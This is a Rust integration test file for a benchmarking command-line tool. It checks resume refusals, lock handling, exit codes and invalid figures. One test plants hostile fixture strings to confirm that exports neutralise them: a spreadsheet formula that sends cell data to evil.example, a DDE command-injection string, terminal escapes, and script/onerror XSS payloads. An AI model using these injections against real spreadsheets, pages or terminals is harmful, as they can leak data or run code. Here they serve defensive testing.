//! Hostile but fair use of the command line: one writer per run directory,
//! resumes that would not finish the run as it was started, inputs past
//! their limits, impossible figures, text that could run in a spreadsheet
//! or a terminal, and exit codes a script can trust (0 done, 1 a
//! regression or a run with no figure, 2 usage).

mod common;

use std::path::{Path, PathBuf};

use predicates::prelude::*;

const QUICK: &str = "[settings]\ntrial_s = 0\nmin_measured_s = 0\nwarmup_s = 0\nwarmup_ops = 1\ntrials = 2\nmax_trials = 2\nops = 4\nchecks = 2\n\
    [[sweep]]\nworkload = \"linear\"\nstrategy = \"threads\"\nn = [1, 2]\n";

fn resume(dir: &Path) -> assert_cmd::assert::Assert {
    common::curves()
        .args(["run", "--resume", dir.to_str().unwrap(), "--quiet"])
        .assert()
}

#[test]
fn a_resume_refuses_what_it_would_not_finish_and_a_second_writer() {
    let (_tmp, run) = common::run_experiment(common::curves(), QUICK, &[]);
    let dir = _tmp
        .path()
        .join("results")
        .join(&run.info.run_id)
        .to_path_buf();
    assert!(dir.join("run.json").exists(), "{}", dir.display());

    // A finished run has nothing left to measure.
    resume(&dir)
        .code(2)
        .stderr(predicate::str::contains("nothing is left to measure"));
    let text = run.info.experiment_text.clone();
    common::edit_run_json(&dir, |v| {
        v["finished_at"] = serde_json::Value::Null;
        v["interrupted"] = "a signal (SIGINT or SIGTERM)".into();
    });

    // Options a resume would ignore are refused.
    for extra in [
        vec!["experiments/quick.toml"],
        vec!["--adapter", "0"],
        vec!["--backend", "vulkan"],
        vec!["--out", "elsewhere"],
        vec!["--trials", "3"],
    ] {
        common::curves()
            .args(["run", "--resume", dir.to_str().unwrap()])
            .args(&extra)
            .assert()
            .code(2)
            .stderr(predicate::str::contains("cannot be used with"));
    }

    // An experiment text edited since: its points are not the run's.
    common::edit_run_json(&dir, |v| {
        v["experiment_text"] = text.replace("n = [1, 2]", "n = [4]").into();
    });
    resume(&dir).code(2).stderr(predicate::str::contains(
        "not points of the run's experiment",
    ));
    common::edit_run_json(&dir, |v| v["experiment_text"] = text.clone().into());

    // Another writer holds the directory: refused, naming it.
    let held = curves::runner::WriterLock::take(&dir).unwrap();
    resume(&dir)
        .code(2)
        .stderr(predicate::str::contains(format!(
            "another curves (process {})",
            std::process::id()
        )));
    drop(held);

    // Recorded on another adapter (an H200 run copied here): refused,
    // never finished on this machine's adapter.
    let recorded = common::run_json(&dir)["adapter"].clone();
    common::edit_run_json(&dir, |v| {
        v["adapter"]["name"] = "NVIDIA H200".into();
        v["adapter"]["driver_info"] = "580.159.04".into();
    });
    resume(&dir).code(2).stderr(predicate::str::contains(
        "the run was measured on NVIDIA H200",
    ));
    common::edit_run_json(&dir, |v| v["adapter"] = recorded.clone());

    // Free again, the interrupted run finishes (nothing was missing).
    resume(&dir).success();
    let info = common::run_json(&dir);
    assert!(info["finished_at"].is_string() && info["interrupted"].is_null());
    assert_eq!(curves::store::Run::load(&dir).unwrap().points.len(), 2);

    // Not a run directory at all.
    resume(_tmp.path())
        .code(2)
        .stderr(predicate::str::contains("holds no run.json"));
    assert!(
        !_tmp.path().join(".lock").exists(),
        "no lock left outside a run"
    );
}

#[test]
fn export_into_a_directory_writes_its_file_there() {
    let dir = tempfile::tempdir().unwrap();
    for (format, file) in [("csv", "points.csv"), ("json", "points.json")] {
        common::curves()
            .arg("export")
            .arg(common::fixture("run-lavapipe"))
            .args(["--format", format, "--out"])
            .arg(dir.path())
            .assert()
            .success()
            .stdout(predicate::str::contains(file));
        assert!(dir.path().join(file).metadata().unwrap().len() > 100);
    }
}

#[test]
fn an_output_path_that_is_a_file_is_a_usage_error() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("a-file");
    std::fs::write(&file, "").unwrap();
    for command in ["report", "plot"] {
        common::curves()
            .arg(command)
            .arg(common::fixture("run-lavapipe"))
            .arg("--out")
            .arg(&file)
            .assert()
            .code(2)
            .stderr(predicate::str::contains("is not a directory"));
    }
}

#[test]
fn a_run_whose_points_all_failed_exits_1() {
    let text = QUICK.replace("ops = 4", "ops = 1000000") + "timeout_s = 0.2\n";
    let dir = tempfile::tempdir().unwrap();
    let file = common::experiment(dir.path(), &text);
    common::curves()
        .args(["run", file.to_str().unwrap(), "--quiet", "--out"])
        .arg(dir.path().join("results"))
        .assert()
        .code(1)
        .stderr(predicate::str::contains(
            "none of the run's 2 points measured a figure",
        ));
}

#[test]
fn an_endless_experiment_file_is_refused_as_usage() {
    common::curves()
        .args(["run", "/dev/zero"])
        .timeout(std::time::Duration::from_secs(30))
        .assert()
        .code(2)
        .stderr(predicate::str::contains("KiB"));
}

#[test]
fn a_worker_started_by_hand_says_so_and_exits_2() {
    for input in ["", "garbage\n", "{\"point\": 1}\n"] {
        common::curves()
            .arg("worker")
            .write_stdin(input)
            .assert()
            .code(2)
            .stderr(predicate::str::contains("started by `curves run`"));
    }
}

#[test]
fn runs_that_share_no_point_are_a_usage_error() {
    let dir = tempfile::tempdir().unwrap();
    let other = common::edited_copy("run-lavapipe", &dir.path().join("other"), |_, v| {
        v["n"] = 999.into();
    });
    common::curves()
        .args(["compare"])
        .arg(common::fixture("run-lavapipe"))
        .arg(&other)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("share no point"));
}

#[test]
fn impossible_figures_are_marked_invalid_by_name() {
    let dir = tempfile::tempdir().unwrap();
    let run = common::edited_copy("run-lavapipe", dir.path(), |i, v| match i {
        0 => v["samples_per_s"] = (-5.0).into(),
        1 => v["ops_wrong"] = 1_000_000_000_000u64.into(),
        2 => v["samples_per_s_trials"] = serde_json::json!([]),
        _ => {}
    });
    let loaded = curves::store::Run::load(&run).unwrap();
    for (i, why) in [(0, "samples/s is -5"), (1, "wrong of"), (2, "no trial")] {
        let m = &loaded.points[i].measured;
        assert_eq!(m.status, curves::schema::Status::Invalid, "point {i}");
        assert!(
            m.error.as_deref().is_some_and(|e| e.contains(why)),
            "{:?}",
            m.error
        );
    }
    let csv = common::curves().arg("export").arg(&run).assert().success();
    let csv = String::from_utf8(csv.get_output().stdout.clone()).unwrap();
    // The file's figures stay visible, beside the status that disowns them.
    assert_eq!(csv.matches(",invalid,").count(), 3, "{csv}");
    assert_eq!(
        csv.matches("invalid in the result file").count(),
        3,
        "{csv}"
    );
}

#[test]
fn hostile_text_never_runs_in_a_spreadsheet_a_page_or_a_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let run = common::edited_copy("run-lavapipe", dir.path(), |i, v| {
        v["label"] = match i % 3 {
            0 => formula.into(),
            1 => "@SUM(1+1)*cmd|' /C calc'!A0".into(),
            _ => "\u{1b}]0;owned\u{7}<img src=x onerror=alert(1)>".into(),
        };
    });
    common::edit_run_json(&run, |v| {
        v["run_id"] = "a\nb\tc\u{1b}[31m".into();
        v["adapter"]["name"] = "<script>alert(1)</script>".into();
    });
    let csv = common::curves().arg("export").arg(&run).assert().success();
    let csv = String::from_utf8(csv.get_output().stdout.clone()).unwrap();
    assert!(!csv.contains('\u{1b}') && !csv.contains('\u{7}'));
    for line in csv.lines().skip(1) {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '@', '+']), "{cell} in {line}");
        }
    }
    let work = dir.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    let out = common::curves()
        .current_dir(&work)
        .arg("report")
        .arg(&run)
        .assert()
        .success();
    let said = String::from_utf8_lossy(&out.get_output().stdout).to_string()
        + &String::from_utf8_lossy(&out.get_output().stderr);
    assert!(!said.contains('\u{1b}'), "{said:?}");
    let plots: Vec<PathBuf> = std::fs::read_dir(work.join("plots"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(plots.len(), 1);
    let name = plots[0].file_name().unwrap().to_string_lossy().to_string();
    assert!(!name.chars().any(char::is_control), "{name:?}");
    for page in ["REPORT.md", "APPENDIX.md", "index.html"] {
        let text = std::fs::read_to_string(plots[0].join(page)).unwrap();
        assert!(!text.contains('\u{1b}'), "{page} holds ESC");
        assert!(!text.contains("<script>alert"), "{page} holds the script");
        assert!(!text.contains("<img src=x"), "{page} holds the image");
    }
}
